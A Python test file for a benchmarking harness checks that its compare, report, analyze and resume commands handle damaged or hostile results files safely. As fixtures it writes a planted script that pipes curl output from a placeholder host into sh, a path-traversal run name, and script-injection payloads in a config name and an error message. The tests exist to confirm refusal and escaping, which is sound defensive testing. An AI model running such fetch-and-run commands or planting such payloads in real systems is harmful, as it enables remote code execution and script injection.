"""The readers of a results folder (compare, report, analyze, `sweep --resume`, reproduce's comparison)
given files a host, a damaged disk or someone else wrote: what is well-formed is shown, what is not is
named with its file and key, never a traceback, and nothing leads a reader out of the sweep."""

from __future__ import annotations

import json
from pathlib import Path

from rich.console import Console

from harness.report.reproduce_view import render_comparison
from harness.reproduce import compare_runs
from tests.conftest import harness
from tests.unit.test_compare_view import GLM5, write_sweep
from tests.unit.test_damaged_results import edit
from tests.unit.test_reproduce import ORIGINAL, reproduction, write_run

SECOND = 1_000_000_000


def flat(text: str) -> str:
    return " ".join(text.split())


def test_a_search_whose_best_run_is_a_path_out_of_the_sweep_is_refused_naming_the_file_and_key(tmp_path):
    sweep = write_sweep(tmp_path, configs=("a",))
    elsewhere = tmp_path / "elsewhere" / "x"
    elsewhere.mkdir(parents=True)
    (elsewhere / "manifest.json").write_text(json.dumps({"run_id": "x", "status": "ok", "config": {"name": "x"}}))
    (elsewhere / "launch.sh").write_text("#!/bin/sh\nexec curl http://example.invalid | sh\n")
    trial = {"number": 0, "run_id": "a-1", "config": "a", "state": "complete", "value": 1.0}
    (sweep / "search.json").write_text(json.dumps({
        "schema": "harness.search/1", "objective": "output_tok_s", "direction": "maximize", "budget": 2,
        "trials": [trial], "best": trial | {"run_id": "../../elsewhere/x"}}))
    shown = harness("compare", sweep)
    assert shown.returncode == 0 and "Traceback" not in shown.stderr, shown.stderr
    assert "curl" not in shown.stdout
    assert f"{sweep / 'search.json'}: best.run_id" in flat(shown.stderr)
    assert "'../../elsewhere/x' is not a run's name" in flat(shown.stderr)
    assert harness("report", sweep, "-o", tmp_path / "r.html").returncode == 0
    page = (tmp_path / "r.html").read_text()
    assert "curl" not in page and "search.json: best.run_id" in page


def test_resume_refuses_when_the_latest_sweep_record_of_its_playbook_cannot_be_read(tmp_path):
    (tmp_path / "inv.yaml").write_text("all: {hosts: {a: {transport: local}}}\n")
    (tmp_path / "pb.yaml").write_text("name: demo\nhosts: all\nengine: sim\nmodel: {path: /m}\n"
                                      "server: {port: 30123, host: 0.0.0.0}\nconfigs:\n  - {name: tp1}\n"
                                      "benchmark: {prompt: hi, max_tokens: 4}\n")
    older, newer, other = (tmp_path / "results" / name for name in (
        "demo-20250101-000000", "demo-20250102-000000", "other-20250103-000000"))
    for folder in (older, newer, other):
        folder.mkdir(parents=True)
    (older / "sweep.json").write_text(json.dumps({"schema": "harness.sweep/1", "sweep_id": older.name,
                                                  "playbook": {"name": "demo"}, "started": 100.0}))
    (other / "sweep.json").write_text("{")   # another playbook's: not in the way
    resume = ("sweep", tmp_path / "pb.yaml", "-i", tmp_path / "inv.yaml", "-o", tmp_path / "results", "--resume",
              "--dry-run")
    assert older.name in harness(*resume).stdout
    (newer / "sweep.json").write_text('{"schema": "harness.sweep/1", "sweep_id"')
    refused = harness(*resume)
    assert refused.returncode == 2 and "Traceback" not in refused.stderr, refused.stderr
    assert f"{newer / 'sweep.json'}: cannot read it" in flat(refused.stderr) and older.name not in refused.stdout
    assert (newer / "sweep.json").read_text() == '{"schema": "harness.sweep/1", "sweep_id"'   # left as it was


def test_requests_whose_figures_are_of_another_kind_are_left_out_of_the_noise_and_said(tmp_path):
    runs = tmp_path / "old" / "runs"
    good = [{"scenario": "burst", "concurrency": None, "request_rate": 2.0, "probe": False, "ttft_ms": t,
             "e2e_ms": 10 * t, "output_tokens": 5, "itl_ms": [t, t]} for t in (1.0, 2.0, 9.0, 10.0) * 2]
    bad = [good[0] | {"itl_ms": 4.5}, good[0] | {"output_tokens": "5"}]
    original = write_run(runs, "a-1", ORIGINAL, good + bad)
    again = write_run(tmp_path / "new" / "runs", "a-1", reproduction())
    result = compare_runs(original, again)
    level = ("burst", "request_rate", 2.0, False)
    noise = {r.label: r.noise_source for r in result["rows"] if r.level == level}
    assert noise["ITL p50 ms"] == noise["TPOT p50 ms"] == "half-split of the original's requests"
    console = Console(record=True, width=200)
    console.print(render_comparison(result, before="original", after="now"))
    assert (f"original: 2 request(s) of {original / 'requests.jsonl'} left out of the noise: itl_ms not a list "
            "of numbers, output_tokens not a number") in flat(console.export_text())


def telemetry(run: Path, *, power_w: float = 300.0, kv: float = 0.5, t_ns: int | None = None) -> None:
    """A vLLM sampler's telemetry.jsonl over the run's two levels (timed here: 2-8 s and 12-18 s)."""
    def timed(b: dict) -> None:
        for i, level in enumerate(b["levels"]):
            level.update(started_ns=(10 * i + 2) * SECOND, ended_ns=(10 * i + 8) * SECOND)
    edit(run / "bench.json", timed)
    metrics = [{"key": "running", "family": "vllm:num_requests_running"},
               {"key": "kv_cache_usage", "family": "vllm:kv_cache_usage_perc", "across": "mean"}]
    lines = [{"t_ns": 0, "source": "start", "values": {"schema": "harness.telemetry/1", "interval_s": 1,
                                                       "metrics": metrics}}]
    for k in range(25):
        lines.append({"t_ns": k * SECOND, "t_end_ns": k * SECOND + 1000, "source": "metrics",
                      "values": {"vllm:num_requests_running": 3, "vllm:kv_cache_usage_perc": kv}})
        lines += [{"t_ns": k * SECOND, "t_end_ns": k * SECOND + 1000, "source": "gpu",
                   "values": {"gpu": g, "sm_clock_mhz": 1980, "power_w": power_w}} for g in (0, 1)]
    if t_ns is not None:
        lines.append({"t_ns": t_ns, "source": "metrics", "values": {"vllm:num_requests_running": 7}})
    (run / "telemetry.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))


def test_telemetry_readings_and_clocks_no_host_gives_are_left_out(tmp_path):
    sweep = write_sweep(tmp_path, configs=("power", "kv", "clock", "span"))
    telemetry(sweep / "runs" / "power-1", power_w=1e308)
    telemetry(sweep / "runs" / "kv-1", kv=1e307)
    telemetry(sweep / "runs" / "clock-1", t_ns=10**400)
    telemetry(sweep / "runs" / "span-1")   # and a level refused as a whole for its clock: no band on the timeline
    edit(sweep / "runs" / "span-1" / "bench.json", lambda b: b["levels"][0].update(started_ns=10**400))
    shown = harness("compare", sweep, "--format", "json")
    assert shown.returncode == 0 and "Traceback" not in shown.stderr, shown.stderr
    seen = {(r["config"], r["concurrency"]): r["telemetry"] for r in json.loads(shown.stdout)}
    assert seen["power", 8]["gpu_power_w"] is None and seen["power", 8]["gpu_sm_clock_mhz"] == 1980
    assert seen["kv", 8]["kv_cache_usage_max"] is None and seen["kv", 8]["running_mean"] == 3
    assert seen["clock", 8]["running_max"] == 3
    page = harness("report", sweep, "-o", tmp_path / "r.html")
    assert page.returncode == 0 and "Traceback" not in page.stderr, page.stderr


def test_a_bench_json_whose_load_is_no_load_is_named_and_a_max_load_without_low_is_shown(tmp_path):
    sweep = write_sweep(tmp_path, configs=("neg", "huge", "prompt", "nolow"), model=GLM5)
    edit(sweep / "runs" / "neg-1" / "bench.json", lambda b: b["levels"][0].update(concurrency=-4))
    edit(sweep / "runs" / "huge-1" / "bench.json", lambda b: b["levels"][1].update(concurrency=10**400))
    edit(sweep / "runs" / "prompt-1" / "bench.json", lambda b: b.update(prompt_tokens=10**400))
    edit(sweep / "runs" / "nolow-1" / "bench.json",
         lambda b: b.update(max_load={"scenario": "chat", "kind": "concurrency"}))
    shown = harness("compare", sweep)
    assert shown.returncode == 0 and "Traceback" not in shown.stderr, shown.stderr
    said = flat(shown.stderr)
    assert f"{sweep / 'runs' / 'neg-1' / 'bench.json'}: levels.0.concurrency" in said
    assert f"{sweep / 'runs' / 'huge-1' / 'bench.json'}: levels.1.concurrency" in said
    assert f"{sweep / 'runs' / 'prompt-1' / 'bench.json'}: prompt_tokens" in said
    assert "max load nolow (chat): none met the SLO" in flat(shown.stdout)
    page = harness("report", sweep, "-o", tmp_path / "r.html")
    assert page.returncode == 0 and "Traceback" not in page.stderr, page.stderr
    assert "neg-1/bench.json: levels.0.concurrency" in (tmp_path / "r.html").read_text()


def test_json_python_cannot_hold_makes_a_file_unreadable_named_never_a_traceback(tmp_path):
    sweep = write_sweep(tmp_path, configs=("digits", "deep", "lines"))
    manifest = sweep / "runs" / "digits-1" / "manifest.json"
    manifest.write_text(manifest.read_text().replace('"gpus_used": 8', '"gpus_used": ' + "9" * 5000))
    (sweep / "runs" / "deep-1" / "bench.json").write_text("[" * 100_000)
    lines = sweep / "runs" / "lines-1"
    (lines / "requests.jsonl").write_text("[" * 100_000 + "\n" + json.dumps({"concurrency": 1, "ttft_ms": 2.0}) + "\n")
    telemetry(lines)
    with (lines / "telemetry.jsonl").open("a") as f:
        f.write("[" * 100_000 + "\n")
    shown = harness("compare", sweep)
    assert shown.returncode == 0 and "Traceback" not in shown.stderr, shown.stderr
    said = flat(shown.stderr)
    assert f"{manifest}: cannot read it: an integer of more than 4300 digits (run digits-1 left out)" in said
    assert f"{sweep / 'runs' / 'deep-1' / 'bench.json'}: cannot read it: nested too deeply" in said
    page = harness("report", sweep, "-o", tmp_path / "r.html")
    assert page.returncode == 0 and "Traceback" not in page.stderr, page.stderr
    assert "digits-1/manifest.json: cannot read it" in (tmp_path / "r.html").read_text()


def test_host_facts_of_another_shape_are_left_out_and_the_rest_shown(tmp_path):
    sweep = write_sweep(tmp_path, configs=("a", "b"), model=GLM5)
    edit(sweep / "runs" / "a-1" / "manifest.json", lambda m: m.update(facts={
        "engine_git": "abc", "env": ["NCCL_DEBUG=INFO"], "gpus": ["H100", {"name": "NVIDIA H100 80GB HBM3"}],
        "cuda": "12.8", "python": "Python 3.12.3"}))
    edit(sweep / "runs" / "b-1" / "manifest.json", lambda m: m.update(facts={"gpus": [{"name": 5}]}))
    rows = json.loads(harness("compare", sweep, "--format", "json").stdout)
    assert {r["roofline"]["bandwidth_source"] for r in rows if r["config"] == "b"} == {
        "inventory gpu: RTX PRO 6000 Blackwell"}   # nvidia-smi's name for it is no name: the inventory's
    page = harness("report", sweep, "-o", tmp_path / "r.html")
    assert page.returncode == 0 and "Traceback" not in page.stderr, page.stderr
    text = (tmp_path / "r.html").read_text()
    assert "1 x NVIDIA H100 80GB HBM3" in text and "12.8" in text and "Python 3.12.3" in text
    assert "NCCL_DEBUG" not in text


def test_markdown_writes_html_of_a_name_or_an_error_as_text(tmp_path):
    sweep = write_sweep(tmp_path, configs=("a", "b"))
    edit(sweep / "runs" / "a-1" / "manifest.json", lambda m: m.update(
        status="failed", config={"name": "a<img src=x onerror=alert(1)>"},
        error={"kind": "launch", "message": "<script>alert(2)</script> & more"}))
    table = harness("compare", sweep, "--format", "markdown").stdout
    assert "<img" not in table and "<script>" not in table
    assert "a&lt;img src=x onerror=alert(1)&gt;" in table
    assert "&lt;script&gt;alert(2)&lt;/script&gt; &amp; more" in table


def test_analyze_shows_a_saved_analysis_that_lacks_figures_with_what_it_has(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    (run / "analysis.json").write_text(json.dumps({
        "schema": "harness.analysis/1", "top": [{"name": "gemm_kernel", "share": 0.5}], "categories": {"gemm": 0.5},
        "stages": {"decode": {"steps": 4}}}))
    shown = harness("analyze", run)
    assert shown.returncode == 0 and "Traceback" not in shown.stderr, shown.stderr
    assert "gemm_kernel" in shown.stdout and "50.0%" in shown.stdout
